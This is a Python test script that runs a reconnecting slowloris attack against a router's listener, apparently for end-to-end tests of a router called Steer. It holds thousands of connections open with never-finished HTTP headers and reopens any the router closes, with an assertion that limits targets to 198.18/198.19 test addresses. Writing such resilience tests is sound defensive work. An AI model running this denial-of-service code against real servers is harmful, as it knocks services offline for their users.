#!/usr/bin/env python3
"""A reconnecting slowloris for Steer's end-to-end tests (run inside the
client namespace, towards the router's listener only).

  slowloris.py --conns N --seconds S [--interval-ms MS] [--sources A-B]

Keeps N connections open, each sending a request line and then one more
header line every interval, never finishing its header; a connection the
router closes (408, FIN or RST) is opened again at once. Prints one JSON
line: connections opened, cut off by the router, 408s seen, and the most
held open at once.
"""

import argparse
import asyncio
import ipaddress
import json
import resource
import time


def sources(spec):
    a, b = spec.split("-")
    base = ipaddress.IPv4Address(a)
    last = int(b) if "." not in b else int(ipaddress.IPv4Address(b)) & 0xff
    return [str(base + i) for i in range(last - (int(base) & 0xff) + 1)]


async def attacker(i, a, srcs, st, stop):
    while time.monotonic() < stop:
        w = None
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(
                a.host, a.port, local_addr=(srcs[i % len(srcs)], 0)), 5)
            st["opened"] += 1
            st["open"] += 1
            st["peak"] = max(st["peak"], st["open"])
            w.write(b"GET /slow%d HTTP/1.1\r\nHost: web.example.test\r\n" % i)
            n = 0
            while time.monotonic() < stop:
                await w.drain()
                try:
                    d = await asyncio.wait_for(r.read(512), a.interval)
                except asyncio.TimeoutError:
                    w.write(b"X-Slow-%d: %d\r\n" % (n, n))
                    n += 1
                    continue
                if b" 408 " in d:
                    st["got_408"] += 1
                st["cut"] += 1
                break
        except (OSError, asyncio.TimeoutError):
            st["errors"] += 1
            await asyncio.sleep(0.1)
        finally:
            if w is not None:
                st["open"] -= 1
                w.close()


async def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="198.18.0.1")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--conns", type=int, default=3000)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--interval-ms", type=int, default=1000)
    ap.add_argument("--sources", default="198.18.0.11-20")
    a = ap.parse_args()
    a.interval = a.interval_ms / 1000.0
    assert a.host.startswith("198.18.") or a.host.startswith("198.19."), \
        "test addresses only"
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    st = {"opened": 0, "cut": 0, "got_408": 0, "errors": 0, "open": 0, "peak": 0}
    stop = time.monotonic() + a.seconds
    srcs = sources(a.sources)
    tasks = []
    for i in range(a.conns):
        tasks.append(asyncio.create_task(attacker(i, a, srcs, st, stop)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)    # ramp up over a few hundred ms
    await asyncio.gather(*tasks)
    del st["open"]
    print(json.dumps(st), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
